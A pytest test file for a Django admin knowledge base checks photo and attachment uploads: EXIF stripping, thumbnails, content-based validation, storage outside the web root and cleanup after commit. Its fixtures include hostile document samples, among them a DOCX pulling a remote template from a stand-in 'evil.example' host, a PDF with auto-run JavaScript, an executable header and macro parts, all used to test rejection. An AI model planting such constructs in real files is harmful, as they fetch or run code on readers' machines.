"""Editors add articles with a photo and a file in the management site (/beheer/knowledgebase/article/): the
photo stored without hidden data and with a thumbnail, the file checked by its content and kept where no web
server serves it, and old files removed once a change or a deletion is committed."""

import pytest
from django.urls import reverse
from PIL import Image

from accounts.roles import Role
from demo.loader.knowledgebase import odt_document
from flywheels.models import Concept
from knowledgebase.models import Article, ArticleKind, PublicationState
from places.models import Area
from tests.accounts.factories import staff_in_role
from tests.initiatives.authoring_helpers import GPS_IFD, jpeg_bytes
from tests.knowledgebase.article_admin_helpers import (
    ADD,
    CHANGELIST,
    add_article,
    article_data,
    change_url,
    data_of,
    files_under,
    form_errors,
    pdf,
    photo,
)
from tests.knowledgebase.document_helpers import PDF, docx, with_header_patched

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("stored_files_in_tmp")]


# --- Adding an article --------------------------------------------------------------------------------


def test_editor_adds_an_article_with_a_photo_and_a_file(editor_client, editor, settings):
    animo = Concept.objects.get(slug="animo")

    response = editor_client.post(
        ADD,
        article_data(
            cover_image=photo(),
            cover_alt="Buren spitten een moestuin om",
            attachment=pdf(),
            concepts=[str(animo.pk)],
            tags="groen, moestuin",
            area=str(Area.objects.get(slug="wehl").pk),
        ),
    )

    assert response.status_code == 302
    assert response["Location"] == CHANGELIST
    article = Article.objects.get(slug="buurtmoestuin")
    assert article.title == "Zo start je een buurtmoestuin"
    assert article.kind == ArticleKind.TIP
    assert article.state == PublicationState.DRAFT
    assert article.written_by == editor
    assert article.suggested_by is None
    assert list(article.concepts.all()) == [animo]
    assert sorted(article.tags.names()) == ["groen", "moestuin"]
    assert article.area.slug == "wehl"
    assert article.cover_image.name.startswith("articles/covers/")
    assert article.cover_thumbnail.name.startswith("articles/thumbnails/")
    assert (settings.MEDIA_ROOT / article.cover_image.name).is_file()
    assert (settings.MEDIA_ROOT / article.cover_thumbnail.name).is_file()
    assert "IMG_0001" not in article.cover_image.name
    assert article.attachment.name.startswith("articles/")
    assert article.attachment.name.endswith(".pdf")
    assert "draaiboek" not in article.attachment.name
    assert (settings.DOCUMENTS_ROOT / article.attachment.name).read_bytes() == PDF
    assert not (settings.MEDIA_ROOT / article.attachment.name).exists()


def test_stored_photo_has_no_exif_and_keeps_the_cameras_orientation(editor_client, settings):
    article = add_article(editor_client, cover_image=photo(), cover_alt="Een moestuin")

    with Image.open(settings.MEDIA_ROOT / article.cover_image.name) as stored:
        exif = stored.getexif()
        assert len(exif) == 0
        assert not exif.get_ifd(GPS_IFD)
        assert "exif" not in stored.info
        assert stored.size == (40, 80)  # taken 80 wide, 40 high, "rotate 90°": stored upright
    with Image.open(settings.MEDIA_ROOT / article.cover_thumbnail.name) as thumbnail:
        assert len(thumbnail.getexif()) == 0
        assert max(thumbnail.size) <= 640


def test_large_photo_gets_a_small_thumbnail(editor_client, settings):
    article = add_article(
        editor_client, cover_image=photo(jpeg_bytes(size=(1600, 1000))), cover_alt="Een moestuin"
    )

    with Image.open(settings.MEDIA_ROOT / article.cover_thumbnail.name) as thumbnail:
        assert thumbnail.size == (640, 400)


def test_photo_without_alt_text_is_a_form_error_not_a_500(editor_client, settings):
    response = editor_client.post(ADD, article_data(cover_image=photo(), cover_alt=""))

    assert response.status_code == 200
    assert response.context["adminform"].form.errors
    assert not Article.objects.exists()
    assert files_under(settings.MEDIA_ROOT) == set()


def test_removing_the_alt_text_of_an_existing_photo_is_a_form_error(editor_client):
    article = add_article(editor_client, cover_image=photo(), cover_alt="Een moestuin")

    response = editor_client.post(change_url(article), data_of(article, cover_alt=""))

    assert response.status_code == 200
    assert response.context["adminform"].form.errors
    assert Article.objects.get(pk=article.pk).cover_alt == "Een moestuin"


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"Gewoon tekst.\n", "draaiboek.pdf"),
        (b"MZ\x90\x00" + b"\0" * 100, "draaiboek.pdf"),
        (docx(**{"word/vbaProject.bin": b"macro"}), "draaiboek.docm"),
    ],
    ids=["text-called-pdf", "executable", "docm"],
)
def test_file_that_is_no_document_is_a_form_error(editor_client, settings, content, name):
    response = editor_client.post(ADD, article_data(attachment=pdf(name, content)))

    assert response.status_code == 200
    assert response.context["adminform"].form.has_error("attachment", "invalid")
    assert not Article.objects.exists()
    assert files_under(settings.DOCUMENTS_ROOT) == set()


REMOTE_TEMPLATE = docx(
    **{
        "word/_rels/settings.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="https://evil.example/sjabloon.dotm" TargetMode="External" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
            "</Relationships>"
        )
    }
)
PDF_WITH_JAVASCRIPT = PDF.replace(b"/Pages 2 0 R", b"/Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >>")


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (REMOTE_TEMPLATE, "draaiboek.docx"),
        (
            docx(**{"word/styles-extra.xml": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504}),
            "draaiboek.docx",
        ),
        (PDF_WITH_JAVASCRIPT, "draaiboek.pdf"),
    ],
    ids=["docx-remote-template", "docx-renamed-macro-part", "pdf-javascript"],
)
def test_document_that_runs_or_fetches_something_is_a_form_error(editor_client, settings, content, name):
    response = editor_client.post(ADD, article_data(attachment=pdf(name, content)))

    assert response.status_code == 200
    assert response.context["adminform"].form.has_error("attachment", "active_content")
    assert "Dit document bevat" in str(form_errors(response))
    assert not Article.objects.exists()
    assert files_under(settings.DOCUMENTS_ROOT) == set()


def test_encrypted_zip_as_file_is_a_form_error_not_a_500(editor_client):
    damaged = with_header_patched(odt_document("Draaiboek", ["Stap 1."]), flags=0x1)

    response = editor_client.post(ADD, article_data(attachment=pdf("draaiboek.odt", damaged)))

    assert response.status_code == 200
    assert response.context["adminform"].form.has_error("attachment", "invalid")


def test_editor_opens_an_article_that_has_a_file(editor_client, settings):
    """Documents have no public address (DocumentStorage.url raises): the form must not ask for one."""
    article = add_article(editor_client, attachment=pdf())

    response = editor_client.get(change_url(article))

    assert response.status_code == 200
    assert response.context["adminform"].form.initial["attachment"] == article.attachment
    assert str(settings.DOCUMENTS_ROOT) not in response.content.decode()


@pytest.mark.parametrize("role", [Role.MODERATOR, Role.COUNCIL])
def test_staff_who_only_view_open_an_article_that_has_a_file(editor_client, client, role):
    article = add_article(editor_client, attachment=pdf(), state=PublicationState.PUBLISHED)
    client.force_login(staff_in_role(role))

    response = client.get(change_url(article))

    assert response.status_code == 200


def test_photo_that_is_no_photo_is_a_form_error(editor_client):
    response = editor_client.post(ADD, article_data(cover_image=photo(PDF, "foto.jpg"), cover_alt="Iets"))

    assert response.status_code == 200
    assert response.context["adminform"].form.has_error("cover_image")
    assert not Article.objects.exists()


# --- Replacing files ----------------------------------------------------------------------------------


def test_replacing_the_photo_removes_the_old_photo_and_thumbnail_once_committed(
    editor_client, settings, django_capture_on_commit_callbacks
):
    article = add_article(editor_client, cover_image=photo(), cover_alt="Oude foto")
    old = {article.cover_image.name, article.cover_thumbnail.name}

    with django_capture_on_commit_callbacks() as callbacks:
        response = editor_client.post(
            change_url(article), data_of(article, cover_image=photo(jpeg_bytes()), cover_alt="Nieuwe foto")
        )
        assert response.status_code == 302, form_errors(response)
        assert all((settings.MEDIA_ROOT / name).exists() for name in old)  # not before the commit
    for callback in callbacks:
        callback()

    article.refresh_from_db()
    assert article.cover_alt == "Nieuwe foto"
    new = {article.cover_image.name, article.cover_thumbnail.name}
    assert new.isdisjoint(old)
    assert files_under(settings.MEDIA_ROOT) == new


def test_clearing_the_photo_removes_photo_and_thumbnail(
    editor_client, settings, django_capture_on_commit_callbacks
):
    article = add_article(editor_client, cover_image=photo(), cover_alt="Oude foto")

    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(change_url(article), data_of(article, **{"cover_image-clear": "on"}))

    assert response.status_code == 302, form_errors(response)
    article.refresh_from_db()
    assert not article.cover_image
    assert not article.cover_thumbnail
    assert files_under(settings.MEDIA_ROOT) == set()


def test_replacing_the_file_removes_the_old_file_once_committed(
    editor_client, settings, django_capture_on_commit_callbacks
):
    article = add_article(editor_client, attachment=pdf())
    old = article.attachment.name
    new_content = odt_document("Nieuw draaiboek", ["Stap 1."])

    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(
            change_url(article), data_of(article, attachment=pdf("nieuw.odt", new_content))
        )

    assert response.status_code == 302, form_errors(response)
    article.refresh_from_db()
    assert article.attachment.name.endswith(".odt")
    assert files_under(settings.DOCUMENTS_ROOT) == {article.attachment.name}
    assert not (settings.DOCUMENTS_ROOT / old).exists()


def test_a_change_that_is_refused_removes_no_files(
    editor_client, settings, django_capture_on_commit_callbacks
):
    article = add_article(editor_client, cover_image=photo(), cover_alt="Foto", attachment=pdf())
    before = files_under(settings.MEDIA_ROOT) | files_under(settings.DOCUMENTS_ROOT)

    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(
            change_url(article),
            data_of(article, title="", cover_image=photo(jpeg_bytes()), attachment=pdf("nieuw.pdf")),
        )

    assert response.status_code == 200
    assert files_under(settings.MEDIA_ROOT) | files_under(settings.DOCUMENTS_ROOT) == before


def test_saving_without_touching_the_files_keeps_them(
    editor_client, settings, django_capture_on_commit_callbacks
):
    article = add_article(editor_client, cover_image=photo(), cover_alt="Foto", attachment=pdf())
    before = files_under(settings.MEDIA_ROOT) | files_under(settings.DOCUMENTS_ROOT)

    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(change_url(article), data_of(article, title="Nieuwe titel"))

    assert response.status_code == 302, form_errors(response)
    assert files_under(settings.MEDIA_ROOT) | files_under(settings.DOCUMENTS_ROOT) == before
    assert Article.objects.get(pk=article.pk).title == "Nieuwe titel"


# --- Deleting -----------------------------------------------------------------------------------------


def test_deleting_an_article_removes_its_photo_and_file(
    editor_client, settings, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        article = add_article(editor_client, cover_image=photo(), cover_alt="Een moestuin", attachment=pdf())
    stored = files_under(settings.MEDIA_ROOT) | files_under(settings.DOCUMENTS_ROOT)
    assert len(stored) == 3  # photo, thumbnail, file

    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(
            reverse("admin:knowledgebase_article_delete", args=[article.pk]), {"post": "yes"}
        )

    assert response.status_code == 302
    assert not Article.objects.filter(pk=article.pk).exists()
    assert files_under(settings.MEDIA_ROOT) | files_under(settings.DOCUMENTS_ROOT) == set()
